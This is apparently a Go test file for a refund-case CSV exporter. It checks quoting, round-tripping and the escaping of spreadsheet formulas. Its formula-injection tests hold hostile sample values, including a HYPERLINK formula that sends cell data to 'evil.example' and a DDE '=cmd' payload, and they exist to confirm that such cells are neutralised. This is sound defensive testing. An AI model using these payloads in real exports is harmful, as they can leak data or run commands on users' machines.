package casecsv

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/refundhub/refundhub/internal/casestore"
)

// TestWriter: the header first (also for no cases), then one row per case
// whose commas, quotes and line breaks survive a CSV reader; the request
// as filed in the batch columns, max for a Taobao amount of 0, lists
// joined with ';'.
func TestWriter(t *testing.T) {
	at := time.Date(2026, 12, 2, 14, 0, 0, 5e6, time.FixedZone("CST", 8*3600))
	cases := []casestore.Case{
		{ID: 7, Platform: casestore.PlatformTaobao, OrderID: "1001", SubOrderID: "1002", State: "needs_attention", AttentionCode: "seller_refused",
			OpenedBy: "cmd-1", CreatedAt: at, UpdatedAt: at.Add(time.Second),
			Request: json.RawMessage(`{"goodsStatus":"1","reasonId":1004,"description":"late, \"very\"\nlate","vouchers":["a.jpg","b.jpg"]}`)},
		{ID: 8, Platform: casestore.Platform1688, OrderID: "2001", SubOrderID: "old", State: "waiting_seller", CreatedAt: at, UpdatedAt: at},
	}
	b := exportOf(t, cases...)
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%s", err, b.String())
	}
	if len(recs) != 3 || !slices.Equal(recs[0], Header()) {
		t.Fatalf("export = %q; want the header and two rows", recs)
	}
	row := func(r []string) map[string]string {
		m := map[string]string{}
		for i, col := range recs[0] {
			m[col] = r[i]
		}
		return m
	}
	first, second := row(recs[1]), row(recs[2])
	for col, want := range map[string]string{"platform": "taobao", "order": "1001", "sub-order": "1002", "type": "refund", "reason-id": "1004",
		"amount": "max", "description": "late, \"very\"\nlate", "voucher": "a.jpg;b.jpg", "id": "cmd-1", "case-id": "7",
		"state": "needs_attention", "attention": "seller_refused", "created": "2026-12-02T06:00:00.005Z", "updated": "2026-12-02T06:00:01.005Z"} {
		if first[col] != want {
			t.Errorf("first row %s = %q; want %q", col, first[col], want)
		}
	}
	if second["sub-order"] != "" || second["type"] != "" || second["case-id"] != "8" {
		t.Errorf("1688 case without a request: %q; want no sub-order, no request columns, case-id 8", recs[2])
	}
	if !strings.Contains(b.String(), "\"late, \"\"very\"\"\nlate\"") {
		t.Errorf("description not quoted as CSV: %s", b.String())
	}

	b.Reset()
	if err := NewWriter(b).Flush(); err != nil || b.String() != strings.Join(Header(), ",")+"\n" {
		t.Errorf("empty export = %q, %v; want the header alone", b.String(), err)
	}
}

// TestCellsASpreadsheetWouldRun: a value a spreadsheet would take for a
// formula (=, +, -, @, a tab or a carriage return first, after any spaces)
// is written after an apostrophe, which the spreadsheet shows as text;
// Value gives every value back as it was, apostrophes of its own included;
// a hand-typed cell is its own value unless it escapes a formula the same
// way.
func TestCellsASpreadsheetWouldRun(t *testing.T) {
	for _, tc := range []struct{ value, cell string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"details")`, `'=HYPERLINK("http://evil.example/?"&A1,"details")`},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+86 138", "'+86 138"},
		{"-1", "'-1"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"  =1", "'  =1"},
		{"'=1", "''=1"},
		{"''=1", "'''=1"},
		{"' =1", "'' =1"},
		{"", ""},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{"'quoted'", "'quoted'"},
		{"'", "'"},
		{"不想要了", "不想要了"},
		{"2026-12-02T06:00:00.005Z", "2026-12-02T06:00:00.005Z"},
		{`"=1"`, `'"=1"`},
		{"late;=HYPERLINK(1)", "late;'=HYPERLINK(1)"},
		{"a.jpg;=b.jpg", "a.jpg;'=b.jpg"},
		{"=a;=b", "'=a;'=b"},
		{"x; @y;z", "x;' @y;z"},
		{"a;'=b", "a;''=b"},
		{";;", ";;"},
	} {
		if got := Cell(tc.value); got != tc.cell {
			t.Errorf("Cell(%q) = %q; want %q", tc.value, got, tc.cell)
		}
		if got := Value(tc.cell); got != tc.value {
			t.Errorf("Value(%q) = %q; want %q", tc.cell, got, tc.value)
		}
	}
	// Typed by hand: a formula stays what it is (the request's text); an
	// apostrophe before one is a spreadsheet's text marker.
	for cell, want := range map[string]string{"=1+1": "=1+1", "'@x": "@x", "'plain": "'plain"} {
		if got := Value(cell); got != want {
			t.Errorf("Value(%q) = %q; want %q", cell, got, want)
		}
	}
}

// TestWriterEscapesFormulas: every cell of an export row goes through
// Cell, and a CSV reader reads the escaped cell.
func TestWriterEscapesFormulas(t *testing.T) {
	c := casestore.Case{ID: 9, Platform: casestore.PlatformTaobao, OrderID: "=1+1", SubOrderID: "@2", State: "requested",
		OpenedBy: "-cmd", Request: json.RawMessage(`{"goodsStatus":"1","reasonId":1004,"reason":"+r","description":"=HYPERLINK(\"http://e.example\")","vouchers":["=a.jpg","b.jpg"]}`)}
	b := exportOf(t, c)
	recs, err := csv.NewReader(b).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("read back: %v, %d records", err, len(recs))
	}
	got := map[string]string{}
	for i, col := range recs[0] {
		got[col] = recs[1][i]
		if formulaLike(recs[1][i]) && !strings.HasPrefix(recs[1][i], "'") {
			t.Errorf("column %s: %q would run in a spreadsheet", col, recs[1][i])
		}
	}
	for col, want := range map[string]string{"order": "'=1+1", "sub-order": "'@2", "id": "'-cmd", "reason": "'+r",
		"description": `'=HYPERLINK("http://e.example")`, "voucher": "'=a.jpg;b.jpg", "state": "requested"} {
		if got[col] != want {
			t.Errorf("%s = %q; want %q", col, got[col], want)
		}
	}
}

// FuzzCell: Value undoes Cell for every string, and no part of a cell
// Cell writes (the cell, or a piece after any semicolon) begins, after
// spaces and double quotes, with what a spreadsheet runs.
func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "=1", "'=1", "''", " -x", "\t", "plain", "'", "@", "+", "a;=b", `a;"=b`, ";'=;"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		c := Cell(v)
		if got := Value(c); got != v {
			t.Fatalf("Value(Cell(%q)) = %q", v, got)
		}
		for _, part := range strings.Split(c, ";") { // a comma stays inside its quoted field
			if formulaStart(part) {
				t.Fatalf("Cell(%q) = %q has a part that begins with a formula", v, c)
			}
		}
	})
}

// formulaStart reports whether a spreadsheet cell holding p would run it:
// p begins, after spaces and double quotes, with =, +, -, @, a tab or a
// carriage return.
func formulaStart(p string) bool {
	p = strings.TrimLeft(p, ` "`)
	return p != "" && strings.ContainsRune("=+-@\t\r", rune(p[0]))
}

// runs reports whether a spreadsheet splitting text at semicolons (and at
// line ends) would start a cell with a formula.
func runs(text string) bool {
	for _, piece := range strings.FieldsFunc(text, func(r rune) bool { return r == ';' || r == '\n' }) {
		if formulaStart(piece) {
			return true
		}
	}
	return false
}

// TestExportRunsNothingAfterASemicolon: an export whose values hold a
// formula after a semicolon (a description, a voucher list), read by a
// spreadsheet that splits at semicolons, starts no cell with it; read
// back, every value is as it was.
func TestExportRunsNothingAfterASemicolon(t *testing.T) {
	c := casestore.Case{ID: 3, Platform: casestore.PlatformTaobao, OrderID: "1001", SubOrderID: "1002", State: "requested",
		Request: json.RawMessage(`{"goodsStatus":"1","reasonId":1004,"description":"late;=HYPERLINK(1), really; \"@x\"","vouchers":["a.jpg","=b.jpg"]}`)}
	b := exportOf(t, c)
	if runs(b.String()) {
		t.Errorf("export %q starts a cell with a formula when split at semicolons", b.String())
	}
	recs, err := csv.NewReader(b).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("read back: %q, %v", recs, err)
	}
	got := map[string]string{}
	for i, col := range recs[0] {
		got[col] = Value(recs[1][i])
	}
	if got["description"] != `late;=HYPERLINK(1), really; "@x"` || got["voucher"] != "a.jpg;=b.jpg" {
		t.Errorf("read back description %q, voucher %q; want them as filed", got["description"], got["voucher"])
	}
}

// exportOf is the export of cs, the header first.
func exportOf(t *testing.T, cs ...casestore.Case) *bytes.Buffer {
	t.Helper()
	var b bytes.Buffer
	w := NewWriter(&b)
	for _, c := range cs {
		if err := w.Write(c); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return &b
}
